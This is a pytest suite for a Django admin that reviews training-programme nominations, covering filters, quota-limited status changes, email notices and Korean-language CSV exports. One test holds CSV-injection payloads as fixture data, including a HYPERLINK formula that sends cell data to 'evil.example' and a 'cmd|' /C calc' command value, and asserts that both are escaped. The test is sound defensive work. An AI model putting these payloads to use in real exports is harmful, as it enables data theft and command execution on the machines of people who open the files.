"""Staff review in the admin: list, filters, status changes within the quota, notify, CSV."""

import csv
import io

import pytest
from django.core import mail

from archive_portal.lib.timezone import SEOUL
from tests.training.factories import MilestoneFactory, NominationFactory, TraineeFactory
from training.models import Nomination, Programme

pytestmark = pytest.mark.django_db

CHANGELIST = "/admin/training/nomination/"


@pytest.fixture
def nominations(programme):
    rows = []
    for i, (country, company) in enumerate([("VN", "한국철도기술"), ("ID", "서울엔지니어링"),
                                            ("PH", "도시철도컨설팅")], start=1):  # fmt: skip
        n = NominationFactory(
            programme=programme, country=country, company=company, sequence=i,
            reference=f"TR-2025-{i:03d}", status="under_review",
        )  # fmt: skip
        TraineeFactory(nomination=n, name=f"연수생 {i}", position="과장")
        MilestoneFactory(nomination=n)
        rows.append(n)
    return rows


def references(response):
    return [nomination.reference for nomination in response.context["cl"].result_list]


def test_reviewer_sees_the_list_with_filters(client, reviewer, nominations):
    client.force_login(reviewer)
    response = client.get(CHANGELIST)
    assert response.status_code == 200
    assert references(response) == ["TR-2025-001", "TR-2025-002", "TR-2025-003"]
    filtered = client.get(CHANGELIST, {"country": "VN"})
    assert filtered.status_code == 200  # a filter the admin does not know redirects with ?e=1
    assert references(filtered) == ["TR-2025-001"]
    assert references(client.get(CHANGELIST, {"q": "연수생 3"})) == ["TR-2025-003"]


def test_change_page_shows_trainees_milestones_and_history(client, reviewer, nominations):
    client.force_login(reviewer)
    html = client.get(f"{CHANGELIST}{nominations[0].pk}/change/").content.decode()
    assert "연수생 1" in html
    assert "양해각서 체결" in html
    assert "상태 변경 이력" in html


def test_staff_without_the_group_cannot_see_nominations(client, staff_user, nominations):
    client.force_login(staff_user)
    assert client.get(CHANGELIST).status_code == 403


def test_reviewer_cannot_add_or_delete(client, reviewer, nominations):
    client.force_login(reviewer)
    assert client.get(f"{CHANGELIST}add/").status_code == 403
    assert client.get(f"{CHANGELIST}{nominations[0].pk}/delete/").status_code == 403


def test_select_action_within_quota_and_refusal_beyond(client, reviewer, nominations):
    client.force_login(reviewer)
    response = client.post(
        CHANGELIST,
        {"action": "mark_selected", "_selected_action": [n.pk for n in nominations]},
        follow=True,
    )
    html = response.content.decode()
    assert "추천 2건을 “선정”(으)로 변경했습니다." in html
    assert "이미 초청 국가 수인 2개국을 선정했습니다" in html
    assert Nomination.objects.filter(status="selected").count() == 2
    third = Nomination.objects.get(reference="TR-2025-003")
    assert third.status == "under_review"
    change = Nomination.objects.get(reference="TR-2025-001").status_changes.last()
    assert change.changed_by == reviewer


def test_status_change_on_the_change_form_refuses_beyond_quota(client, reviewer, nominations):
    client.force_login(reviewer)
    for n in nominations[:2]:
        response = client.post(
            f"{CHANGELIST}{n.pk}/change/",
            {"new_status": "selected", "status_note": "우선 선정", "internal_notes": "좋음",
             **inline_management()},
        )  # fmt: skip
        assert response.status_code == 302, response.content.decode()[:3000]
    response = client.post(
        f"{CHANGELIST}{nominations[2].pk}/change/",
        {"new_status": "selected", "status_note": "", "internal_notes": "", **inline_management()},
    )
    assert response.status_code == 200
    assert "이미 초청 국가 수인 2개국을 선정했습니다" in response.content.decode()
    first = Nomination.objects.get(pk=nominations[0].pk)
    assert (first.status, first.internal_notes) == ("selected", "좋음")
    assert first.status_changes.last().note == "우선 선정"


def test_status_change_on_the_change_form_refuses_an_impossible_transition(
    client, reviewer, nominations
):
    client.force_login(reviewer)
    Nomination.objects.filter(pk=nominations[0].pk).update(status="submitted")
    response = client.post(
        f"{CHANGELIST}{nominations[0].pk}/change/",
        {"new_status": "selected", "status_note": "", "internal_notes": "메모",
         **inline_management()},
    )  # fmt: skip
    assert response.status_code == 200
    assert (
        response.content.decode().count("추천 상태를 “접수”에서 “선정”(으)로 바꿀 수 없습니다.")
        == 1
    )
    first = Nomination.objects.get(pk=nominations[0].pk)
    assert (first.status, first.internal_notes) == ("submitted", "")
    assert not first.status_changes.exists()


def inline_management():
    data = {}
    for prefix in ("trainees", "milestones", "status_changes"):
        data[f"{prefix}-TOTAL_FORMS"] = "0"
        data[f"{prefix}-INITIAL_FORMS"] = "0"
    return data


def test_notify_selected_action(client, reviewer, nominations, django_capture_on_commit_callbacks):
    Nomination.objects.filter(pk=nominations[0].pk).update(status="selected")
    client.force_login(reviewer)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            CHANGELIST,
            {"action": "notify_selected", "_selected_action": [n.pk for n in nominations]},
            follow=True,
        )
    assert "선정 안내 이메일을 1개 기업에 보냈습니다." in response.content.decode()
    assert len(mail.outbox) == 1
    assert "TR-2025-001" in mail.outbox[0].subject


def test_csv_exports_parse_back_with_korean_intact(client, reviewer, nominations):
    client.force_login(reviewer)
    response = client.post(
        CHANGELIST,
        {"action": "export_trainees_csv", "_selected_action": [n.pk for n in nominations]},
    )
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    raw = response.content
    assert raw.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0][:3] == ["접수번호", "상태", "회사명"]
    assert len(rows) == 4
    assert rows[1][:7] == ["TR-2025-001", "검토중", "한국철도기술", "베트남", "하노이",
                           "하노이 도시철도공사", "연수생 1"]  # fmt: skip

    response = client.post(
        CHANGELIST,
        {"action": "export_nominations_csv", "_selected_action": [nominations[1].pk]},
    )
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert len(rows) == 2
    assert rows[1][0] == "TR-2025-002"
    assert rows[1][4] == "서울엔지니어링"
    assert rows[1][13] == "2024-03-14 양해각서 체결"


def programme_post(**overrides):
    data = {
        "title_ko": "2027 초청연수", "slug": "2027-training", "is_published": "on",
        "training_starts": "2027-10-24", "training_ends": "2027-10-30",
        "application_deadline_0": "2027-07-23", "application_deadline_1": "",
        "country_quota": "5", "trainees_per_country": "2",
        "contact_department_ko": "설계총괄과", "contact_person_ko": "담당자",
        "contact_phone": "02-6438-2522", "contact_email": "staff@seoul.go.kr",
        "schedule-TOTAL_FORMS": "0", "schedule-INITIAL_FORMS": "0",
    }  # fmt: skip
    data.update(overrides)
    return data


def test_programme_admin_deadline_date_alone_means_end_of_day(client, superuser):
    client.force_login(superuser)
    response = client.post("/admin/training/programme/add/", programme_post())
    assert response.status_code == 302, response.content.decode()[:3000]
    programme = Programme.objects.get(slug="2027-training")
    assert programme.reference_prefix == "TR-2027"
    assert programme.application_deadline.astimezone(SEOUL).isoformat() == (
        "2027-07-23T23:59:59+09:00"
    )


def test_programme_admin_refuses_a_reserved_slug(client, superuser):
    """/training/nominations/ is the private links' path: a programme there would be unreachable."""
    client.force_login(superuser)
    response = client.post("/admin/training/programme/add/", programme_post(slug="nominations"))
    assert response.status_code == 200
    assert response.content.decode().count("사이트에서 쓰는 주소입니다. 다른 주소를 정하세요.") == 1
    assert not Programme.objects.exists()


def test_csv_exports_never_carry_a_formula(client, reviewer, nominations):
    """OWASP CSV injection: what a firm typed is shown as text by a spreadsheet."""
    nomination = nominations[0]
    nomination.company = '=HYPERLINK("http://evil.example/?"&B2,"Open")'
    nomination.city = "@SUM(1+1)"
    nomination.writer_phone = "+82-2-120"
    nomination.save()
    trainee = nomination.trainees.get()
    trainee.name, trainee.duties = "-2+3+cmd|' /C calc'!A0", "\t=1+1"
    trainee.save()
    client.force_login(reviewer)
    post = {"_selected_action": [nomination.pk]}
    rows = list(csv.reader(io.StringIO(client.post(
        CHANGELIST, {**post, "action": "export_nominations_csv"}
    ).content.decode("utf-8-sig"))))  # fmt: skip
    assert rows[1][4] == '\'=HYPERLINK("http://evil.example/?"&B2,"Open")'
    assert rows[1][7] == "'+82-2-120"
    assert rows[1][9] == "'@SUM(1+1)"
    rows = list(csv.reader(io.StringIO(client.post(
        CHANGELIST, {**post, "action": "export_trainees_csv"}
    ).content.decode("utf-8-sig"))))  # fmt: skip
    assert rows[1][4] == "'@SUM(1+1)"
    assert rows[1][6] == "'-2+3+cmd|' /C calc'!A0"
    assert rows[1][8] == "'\t=1+1"


def test_editors_cannot_redirect_nomination_announcements(client, programme, django_user_model):
    """Finding 8: the notification address belongs to a separate role (and superusers)."""
    from django.contrib.auth.models import Group

    from archive_portal.groups import EDITORS, NOTIFICATION_MANAGERS, sync_staff_groups

    sync_staff_groups()
    users = django_user_model.objects
    editor = users.create_user(username="ed", password="a-long-test-password", is_staff=True)
    editor.groups.add(Group.objects.get(name=EDITORS))
    manager = users.create_user(username="nm", password="a-long-test-password", is_staff=True)
    manager.groups.add(Group.objects.get(name=NOTIFICATION_MANAGERS))
    Programme.objects.filter(pk=programme.pk).update(
        notification_email="", contact_email="team@seoul.go.kr"
    )
    programme.refresh_from_db()
    url = f"/admin/training/programme/{programme.pk}/change/"

    client.force_login(editor)
    assert 'name="notification_email"' not in client.get(url).content.decode()
    # Posting the field anyway changes nothing; changing the contact email keeps the
    # announcements where they went.
    same = {"slug": programme.slug, "reference_prefix": programme.reference_prefix}
    post = programme_post(
        **same, notification_email="thief@example.com", contact_email="thief@example.com"
    )
    response = client.post(url, post)
    assert response.status_code == 302, response.context["adminform"].form.errors
    programme.refresh_from_db()
    assert (programme.contact_email, programme.notification_email) == (
        "thief@example.com",
        "team@seoul.go.kr",
    )
    assert programme.staff_email == "team@seoul.go.kr"

    client.force_login(manager)
    assert 'name="notification_email"' in client.get(url).content.decode()
    response = client.post(url, programme_post(**same, notification_email="desk@seoul.go.kr"))
    assert response.status_code == 302, response.context["adminform"].form.errors
    programme.refresh_from_db()
    assert programme.staff_email == "desk@seoul.go.kr"
